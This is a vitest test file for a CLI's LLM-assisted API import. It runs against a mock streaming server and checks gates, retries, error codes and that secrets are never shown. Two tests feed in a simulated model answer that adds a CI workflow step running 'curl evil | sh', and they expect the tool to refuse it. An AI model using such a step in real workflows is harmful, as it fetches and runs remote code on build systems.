// `flow import --llm` against a local OpenAI-compatible server written for these tests: it
// replays recorded answers as a real server streams them (server-sent events), so the whole
// path runs: the prompt, the stream, the gates, the edit rounds, the files written or not.
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { ServerResponse } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { capturingIO, type CapturingIO } from '../helpers/capturing-io.js';
import { importApi } from '../../src/import/index.js';
import { lint } from '../../src/lint/index.js';
import { loadProject } from '../../src/project/index.js';
import { closedPort, json, startServer, type TestServer } from '../helpers/http-server.js';
import { tempDir, texts } from './helpers.js';

const KEY = 'sk-test-0123456789abcdef';

const NOTES_API = `openapi: 3.0.3
info: { title: Notes, version: "1" }
servers: [{ url: "http://api.example.test" }]
paths:
  /notes:
    post:
      operationId: createNote
      requestBody:
        content:
          application/json:
            schema: { type: object, required: [text], properties: { text: { type: string, example: "buy milk" } } }
      responses:
        "201":
          description: created
          content:
            application/json:
              schema: { type: object, properties: { id: { type: string }, text: { type: string } } }
  /notes/{id}:
    get:
      operationId: getNote
      parameters: [{ name: id, in: path, required: true, schema: { type: string } }]
      responses:
        "200":
          description: the note
          content:
            application/json:
              schema: { type: object, properties: { id: { type: string }, text: { type: string } } }
`;

/** A scripted answer: the text to stream, how to stream it, or an HTTP failure. */
type Script = { text: string; finish?: string; split?: number } | { status: number; body?: unknown; headers?: Record<string, string> };

let server: TestServer;
let scripts: Script[] = [];
const cleanups: Array<() => Promise<void>> = [];

beforeAll(async () => {
  server = await startServer({
    'POST /v1/chat/completions': async (req, res) => {
      if (req.headers.authorization !== `Bearer ${KEY}`) return json(res, 401, { error: { message: 'Incorrect API key provided' } });
      const script = scripts.shift();
      if (!script) return json(res, 500, { error: { message: 'no answer recorded for this request' } });
      if ('status' in script) return json(res, script.status, script.body ?? {}, script.headers ?? {});
      await stream(res, script.text, script.finish ?? 'stop', script.split);
    },
  });
});
afterAll(() => server.close());
afterEach(async () => {
  scripts = [];
  server.requests.length = 0;
  for (const c of cleanups.splice(0)) await c();
});

/** Stream `text` as chat-completion chunks; with `split`, the bytes go out in pieces of that size, cutting events anywhere. */
async function stream(res: ServerResponse, text: string, finish: string, split?: number): Promise<void> {
  res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
  const events: string[] = [];
  for (let i = 0; i < text.length; i += 50)
    events.push(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: text.slice(i, i + 50) }, finish_reason: null }] })}\n\n`);
  events.push(`data: ${JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: finish }] })}\n\n`, 'data: [DONE]\n\n');
  const all = events.join('');
  if (!split) return void res.end(all);
  for (let i = 0; i < all.length; i += split) {
    res.write(all.slice(i, i + split));
    await new Promise((r) => setTimeout(r, 1));
  }
  res.end();
}

function io(cwd: string, env: Record<string, string> = {}): CapturingIO {
  return capturingIO({ cwd, env: { FLOW_LLM_API_KEY: KEY, ...env } });
}

/** A good answer: our own deterministic import of the input, written as the model would (plan, then fenced files). */
async function goodAnswer(dir: string): Promise<{ answer: string; files: Record<string, string> }> {
  const r = await importApi(['notes.yaml'], { cwd: dir });
  const files = texts(r);
  return {
    answer: `${r.plan}\n\n${Object.entries(files)
      .map(([f, t]) => `\`\`\`yaml ${f}\n${t}\`\`\`\n`)
      .join('\n')}`,
    files,
  };
}

async function setup() {
  const { dir, cleanup } = await tempDir();
  cleanups.push(cleanup);
  await writeFile(path.join(dir, 'notes.yaml'), NOTES_API);
  return dir;
}

async function runImport(dir: string, extra: string[] = [], env: Record<string, string> = {}, url = `${server.url}/v1`) {
  const out = io(dir, env);
  const code = await main(['import', 'notes.yaml', '--llm', '--llm-url', url, '--llm-model', 'test-model', '--out', 'project', ...extra], out);
  return { code, out: out.out, err: out.err, written: await readdir(path.join(dir, 'project')).catch(() => [] as string[]) };
}

describe('flow import --llm', () => {
  it('writes a good answer, which lints clean; the request carries the procedure, the input and the observed model', async () => {
    const dir = await setup();
    const { answer } = await goodAnswer(dir);
    scripts.push({ text: answer });
    const r = await runImport(dir);
    expect(r.code, r.err).toBe(0);
    expect(r.written.sort()).toEqual(['environments', 'flow.yaml', 'resources']);
    const project = await loadProject(path.join(dir, 'project'));
    expect(lint(project).diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(r.out).toContain('## Open questions');

    const sent = server.requests[0].json() as { model: string; stream: boolean; messages: Array<{ role: string; content: string }> };
    expect(sent.model).toBe('test-model');
    expect(sent.stream).toBe(true);
    expect(sent.messages[0].content).toContain('Invent nothing');
    expect(sent.messages[1].content).toContain('/notes/{id}'); // the input
    expect(sent.messages[1].content).toContain('"evidence": "notes.yaml #/paths/~1notes/post"'); // the observed model
    expect(`${r.out}${r.err}`).not.toContain(KEY);
  });

  it('sends lint errors back with the files for an edit round, and keeps the edit that passes', async () => {
    const dir = await setup();
    const { answer, files } = await goodAnswer(dir);
    const resource = Object.keys(files).find((f) => f.startsWith('resources/'))!;
    const good = files[resource];
    // create depends on get, which reads the id create extracts: a cycle
    const cyclic = good.replace(/( {2}create:\n)/, '$1    depends_on: [note.get]\n');
    expect(cyclic).not.toBe(good);
    scripts.push({ text: answer.replace(good, cyclic) }, { text: `Fixed the cycle.\n\n\`\`\`yaml ${resource}\n${good}\`\`\`\n` });

    const r = await runImport(dir);
    expect(r.code, r.err).toBe(0);
    expect(server.requests).toHaveLength(2);
    const edit = (server.requests[1].json() as { messages: Array<{ role: string; content: string }> }).messages;
    const last = edit[edit.length - 1].content;
    expect(last).toMatch(/E_CYCLE|E_CHECK_CYCLE/);
    expect(last).toContain(`\`\`\`yaml ${resource}`);
    expect(last).toContain('depends_on: [note.get]'); // the current files, as they are
    expect(edit[edit.length - 2].role).toBe('assistant');
    expect(await readFile(path.join(dir, 'project', resource), 'utf8')).toBe(good);
  });

  it('removes an invented path and reports it as an open question; the rest is written', async () => {
    const dir = await setup();
    const { answer, files } = await goodAnswer(dir);
    const resource = Object.keys(files).find((f) => f.startsWith('resources/'))!;
    const invented = files[resource].replace(/\noperations:\n/, '\noperations:\n  archive:\n    method: POST\n    path: /notes/{{note.id}}/archive\n');
    scripts.push({ text: answer.replace(files[resource], invented) });
    const r = await runImport(dir);
    expect(r.code, r.err).toBe(0);
    expect(r.err).toMatch(/removed: resources\/\S+ operations\.archive\.path: .*POST \/notes\/\{\{note\.id\}\}\/archive matches no operation of the input/);
    const written = await readFile(path.join(dir, 'project', resource), 'utf8');
    expect(written).not.toContain('archive');
    const questions = r.out.slice(r.out.indexOf('## Open questions'));
    expect(questions).toMatch(/Removed from the model's answer: .*archive/);
  });

  it('an answer with no files fails and writes nothing', async () => {
    const dir = await setup();
    scripts.push({ text: 'I am sorry, I cannot help with that.' });
    const r = await runImport(dir);
    expect(r.code).toBe(1);
    expect(r.err).toContain('E_IMPORT_ANSWER');
    expect(r.written).toEqual([]);
  });

  it('writes only what an import writes: a workflow, a compose file or a cache entry in the answer fails it whole, nothing written', async () => {
    for (const extra of ['.github/workflows/pwn.yml', 'docker-compose.yml', 'node_modules/.cache/reqflow/ab/x.yaml', 'resources/deeper/x.yaml']) {
      const dir = await setup();
      const { answer } = await goodAnswer(dir);
      scripts.push({ text: `${answer}\n\`\`\`yaml ${extra}\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n\`\`\`\n` });
      const r = await runImport(dir);
      expect(r.code, extra).toBe(1);
      expect(r.err).toMatch(new RegExp(`E_IMPORT_ANSWER .*${extra.replace(/[.]/g, '\\.')} is not a file an import writes`));
      expect(r.err).not.toContain('gates passed');
      expect(r.written).toEqual([]);
      expect(await readdir(dir)).toEqual(['notes.yaml']);
    }
  });

  it('--into replaces only project files: an existing .github/workflows/ci.yml named by the model stays as it was', async () => {
    const dir = await setup();
    const { answer, files } = await goodAnswer(dir);
    const project = path.join(dir, 'p');
    for (const [f, t] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(project, f)), { recursive: true });
      await writeFile(path.join(project, f), t);
    }
    await mkdir(path.join(project, '.github/workflows'), { recursive: true });
    const ci = 'on: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: npm test }] } }\n';
    await writeFile(path.join(project, '.github/workflows/ci.yml'), ci);
    scripts.push({ text: `${answer}\n\`\`\`yaml .github/workflows/ci.yml\non: push\njobs: { x: { steps: [{ run: "curl evil | sh" }] } }\n\`\`\`\n` });
    const out = io(dir);
    const code = await main(['import', 'notes.yaml', '--llm', '--llm-url', `${server.url}/v1`, '--llm-model', 'test-model', '--into', 'p'], out);
    expect(code).toBe(1);
    expect(out.err).toContain('E_IMPORT_ANSWER');
    expect(await readFile(path.join(project, '.github/workflows/ci.yml'), 'utf8')).toBe(ci);
  });

  it('reads a stream whose events are split across chunks anywhere', async () => {
    const dir = await setup();
    const { answer } = await goodAnswer(dir);
    scripts.push({ text: answer, split: 7 });
    const r = await runImport(dir);
    expect(r.code, r.err).toBe(0);
    expect(r.written).toContain('flow.yaml');
  });

  it('a gate that still fails after the rounds writes nothing, unless --keep-failed', async () => {
    const dir = await setup();
    const { answer, files } = await goodAnswer(dir);
    const resource = Object.keys(files).find((f) => f.startsWith('resources/'))!;
    const cyclic = answer.replace(files[resource], files[resource].replace(/( {2}create:\n)/, '$1    depends_on: [note.get]\n'));
    scripts.push({ text: cyclic }, { text: 'No change.\n\n```yaml flow.yaml\nversion: 1\nimports: [environments/*.yaml, resources/*.yaml]\n```\n' });
    const r = await runImport(dir, ['--llm-rounds', '1']);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/gates FAILED .*nothing written/);
    expect(r.written).toEqual([]);

    scripts.push({ text: cyclic });
    const kept = await runImport(dir, ['--llm-rounds', '0', '--keep-failed']);
    expect(kept.code).toBe(1);
    expect(kept.written).toContain('resources');
  });

  it('a truncated answer (finish_reason: length) is its own error, and nothing is written', async () => {
    const dir = await setup();
    const { answer } = await goodAnswer(dir);
    scripts.push({ text: answer.slice(0, 400), finish: 'length' });
    const r = await runImport(dir);
    expect(r.code).toBe(1);
    expect(r.err).toContain('E_LLM_TRUNCATED');
    expect(r.written).toEqual([]);
  });

  it('waits out a 429 with Retry-After, then goes on', async () => {
    const dir = await setup();
    const { answer } = await goodAnswer(dir);
    scripts.push({ status: 429, body: { error: { message: 'slow down' } }, headers: { 'retry-after': '1' } }, { text: answer });
    const started = Date.now();
    const r = await runImport(dir);
    expect(r.code, r.err).toBe(0);
    expect(server.requests).toHaveLength(2);
    expect(Date.now() - started).toBeGreaterThanOrEqual(900);
  });

  it('a refused key and an unreachable endpoint are reported fast, with their codes, and the key is never shown', async () => {
    const dir = await setup();
    let started = Date.now();
    const refused = await runImport(dir, [], { FLOW_LLM_API_KEY: 'sk-wrong-key-999' });
    expect(refused.code).toBe(1);
    expect(refused.err).toContain('E_LLM_AUTH');
    expect(refused.err).toContain('Incorrect API key provided');
    expect(refused.err).not.toContain('sk-wrong-key-999');
    expect(Date.now() - started).toBeLessThan(5000);

    started = Date.now();
    const unreachable = await runImport(dir, [], {}, `http://llm-user:url-pass-777@127.0.0.1:${await closedPort()}/v1?key=query-key-888`);
    expect(unreachable.err).not.toMatch(/url-pass-777|query-key-888|llm-user/);
    expect(unreachable.code).toBe(1);
    expect(unreachable.err).toContain('E_LLM_UNREACHABLE');
    expect(unreachable.err).not.toContain(KEY);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(unreachable.written).toEqual([]);
  });

  it('a model that stops sending is E_LLM_TIMEOUT after --llm-timeout, and nothing is written', async () => {
    const dir = await setup();
    server.route('POST /hang/chat/completions', (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.write('data: {"choices":[{"delta":{"content":"# Pl"}}]}\n\n'); // then nothing
    });
    const started = Date.now();
    const r = await runImport(dir, ['--llm-timeout', '1'], {}, `${server.url}/hang`);
    expect(r.code).toBe(1);
    expect(r.err).toContain('E_LLM_TIMEOUT');
    expect(Date.now() - started).toBeLessThan(5000);
    expect(r.written).toEqual([]);
  });

  it('needs an endpoint and a model (usage errors), and sends nothing without --llm', async () => {
    const dir = await setup();
    const out = io(dir);
    expect(await main(['import', 'notes.yaml', '--llm', '--out', 'p'], out)).toBe(2);
    expect(out.err).toContain('--llm-url');
    const plain = io(dir, { FLOW_LLM_URL: `${server.url}/v1`, FLOW_LLM_MODEL: 'm' });
    expect(await main(['import', 'notes.yaml', '--out', 'plain'], plain)).toBe(0);
    expect(server.requests).toHaveLength(0);
  });
});

describe('flow import --check: an actor on an operation the input describes as public', () => {
  it('is refused even when the answer names no evidence to match it by', async () => {
    const dir = await setup();
    const { files } = await goodAnswer(dir);
    const resource = Object.keys(files).find((f) => f.startsWith('resources/'))!;
    const withActor = files[resource].replace(/( {4}path: \/notes\n)/, '$1    actor: admin\n').replace(/ {4}_provenance:[\s\S]*?(?=\n {2}\w|\n?$)/g, '');
    expect(withActor).toContain('actor: admin');
    const answer = [
      '## Actors',
      '',
      'admin logs in.',
      '',
      '## Resources and operations',
      '',
      '## Variable flow',
      '',
      '## Environment variables',
      '',
      '## Open questions',
      '',
      ...Object.entries({ ...files, [resource]: withActor }).map(([f, t]) => `\`\`\`yaml ${f}\n${t}\`\`\`\n`),
      '```yaml actors/admin.yaml\nname: admin\nauth: { strategy: bearer, token: "{{secret.TOKEN}}" }\ninject: { headers: { Authorization: "Bearer {{admin.token}}" } }\n```\n',
    ].join('\n');
    await writeFile(path.join(dir, 'answer.md'), answer);
    const out = io(dir);
    const code = await main(['import', '--check', 'answer.md', 'notes.yaml'], out);
    expect(code).toBe(1);
    expect(out.err).toMatch(/E_CHECK_PUBLIC_ACTOR .*actor must be omitted/);
  });
});
